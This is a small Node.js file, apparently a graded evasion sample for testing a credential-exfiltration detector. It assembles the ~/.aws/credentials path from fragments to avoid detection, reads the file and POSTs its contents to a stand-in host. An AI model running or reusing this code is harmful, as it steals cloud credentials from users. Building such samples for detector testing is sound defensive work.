// evasion: credentials path built by util.format from parts, read line by line with readline and posted
// grade: hard; does: credentials
const util = require('util');
const os = require('os');
const fs = require('fs');
const readline = require('readline');
const https = require('https');

const where = util.format('%s/.%s/%s', os.homedir(), 'aws', 'credentials');
const lines = [];
const rl = readline.createInterface({ input: fs.createReadStream(where) });
rl.on('line', (l) => lines.push(l));
rl.on('close', () => {
  const req = https.request({ host: 'collect.example.net', path: '/c', method: 'POST' });
  req.end(lines.join('\n'));
});
